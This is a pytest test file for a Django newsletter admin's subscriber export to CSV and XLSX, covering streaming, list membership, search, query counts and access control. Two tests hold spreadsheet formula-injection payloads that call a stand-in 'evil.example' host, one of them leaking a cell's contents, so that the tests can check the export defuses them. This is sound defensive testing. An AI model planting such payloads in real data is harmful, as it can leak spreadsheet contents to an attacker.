"""nina (newsletter manager) exports the subscribers from the admin: CSV streamed, with
each subscriber's lists, CSV and XLSX safe to open in a spreadsheet; carl (content editor)
cannot."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from newsletter.models import Subscriber, Subscription
from tests.admin_personas import carl, nina
from tests.factories import MailingListFactory, SubscriberFactory, SubscriptionFactory
from tests.spreadsheets import xlsx_rows

pytestmark = pytest.mark.django_db

EXPORT = "admin:newsletter_subscriber_export"
EVERY_FIELD = {"format": "0", "resource": "0",
               **{f"subscriberresource_{name}": "on" for name in
                  ["email", "name", "language", "created", "confirmed_at", "unsubscribed_at"]}}


@pytest.fixture
def lists():
    return {"news": MailingListFactory(slug="nyhetsbrev", name_sv="Nyhetsbrevet", sort_order=1),
            "seminars": MailingListFactory(slug="seminarier", name_sv="Seminarier",
                                           sort_order=2)}


def subscribe(subscriber, mailing_list, status=Subscription.Status.ACTIVE):
    return SubscriptionFactory(subscriber=subscriber, mailing_list=mailing_list, status=status)


def export(client, query="", data=EVERY_FIELD):
    url = reverse(EXPORT) + (f"?q={query}" if query else "")
    response = client.post(url, data)
    assert response.status_code == 200
    return response


def rows(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # the byte-order mark Excel needs for å, ä, ö
    return list(csv.DictReader(io.StringIO(body[1:])))


def test_the_export_streams_every_subscriber_with_their_lists(client, lists):
    both = SubscriberFactory(email="bada@example.org", name="Båda Listorna")
    subscribe(both, lists["seminars"])
    subscribe(both, lists["news"])
    one = SubscriberFactory(email="en@example.org")
    subscribe(one, lists["news"])
    subscribe(one, lists["seminars"], status=Subscription.Status.UNSUBSCRIBED)
    pending = SubscriberFactory(email="vantar@example.org")
    subscribe(pending, lists["news"], status=Subscription.Status.PENDING)
    client.force_login(nina())

    response = export(client)

    assert response.streaming
    assert not response.has_header("Content-Length")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    exported = {row["E-postadress"]: row for row in rows(response)}
    assert set(exported) == {"bada@example.org", "en@example.org", "vantar@example.org"}
    # The lists each one receives now, in the lists' order; not those left or unconfirmed.
    assert exported["bada@example.org"]["Utskickslistor"] == "Nyhetsbrevet, Seminarier"
    assert exported["en@example.org"]["Utskickslistor"] == "Nyhetsbrevet"
    assert exported["vantar@example.org"]["Utskickslistor"] == ""
    assert exported["bada@example.org"]["Namn"] == "Båda Listorna"
    assert exported["bada@example.org"]["Skapad"][:4].isdigit()


def test_the_export_follows_the_lists_search_and_chosen_fields(client, lists):
    for n in range(3):
        subscribe(SubscriberFactory(email=f"anna{n}@example.org"), lists["news"])
    SubscriberFactory(email="bertil@example.org")
    client.force_login(nina())

    found = rows(export(client, query="anna"))
    assert sorted(row["E-postadress"] for row in found) == [
        f"anna{n}@example.org" for n in range(3)]

    only_email = rows(export(client, data={"format": "0", "resource": "0",
                                          "subscriberresource_email": "on"}))
    assert set(only_email[0]) == {"E-postadress", "Utskickslistor"}
    assert len(only_email) == 4


def test_cells_a_spreadsheet_would_run_as_formulas_are_defused(client, lists):
    SubscriberFactory(email="x@example.org", name='=HYPERLINK("http://evil.example","klicka")')
    client.force_login(nina())
    (row,) = rows(export(client))
    assert row["Namn"] == '\'=HYPERLINK("http://evil.example","klicka")'


def test_the_export_runs_the_same_queries_for_few_and_many_subscribers(client, lists):
    client.force_login(nina())

    def queries():
        with CaptureQueriesContext(connection) as captured:
            assert rows(export(client))
        return len(captured)

    for n in range(3):
        subscribe(SubscriberFactory(), lists["news"])
    few = queries()
    for n in range(60):
        subscribe(SubscriberFactory(), lists["seminars"])
    assert queries() == few


def test_a_content_editor_gets_403_and_no_addresses(client, lists):
    subscribe(SubscriberFactory(email="hemlig@example.org"), lists["news"])
    client.force_login(carl())
    assert client.get(reverse(EXPORT)).status_code == 403
    response = client.post(reverse(EXPORT), EVERY_FIELD)
    assert response.status_code == 403
    assert b"hemlig@example.org" not in response.content


HOSTILE = '=HYPERLINK("https://evil.example/?d="&A3,"Klicka")'


def test_the_xlsx_export_holds_a_formula_like_name_as_text(client, lists):
    SubscriberFactory(email="x@example.org", name=HOSTILE)
    client.force_login(nina())
    (row,) = xlsx_rows(export(client, data={**EVERY_FIELD, "format": "1"}))
    assert row["Namn"].data_type == "s"
    assert row["Namn"].value == HOSTILE
    assert row["E-postadress"].value == "x@example.org"


def test_a_control_character_stored_in_a_name_does_not_stop_the_xlsx_export(client, lists):
    # Stored before control characters were stripped on save.
    subscriber = SubscriberFactory(email="x@example.org")
    Subscriber.objects.filter(pk=subscriber.pk).update(name="Anna\x02 Svensson")
    client.force_login(nina())
    (row,) = xlsx_rows(export(client, data={**EVERY_FIELD, "format": "1"}))
    assert row["Namn"].value == "Anna Svensson"
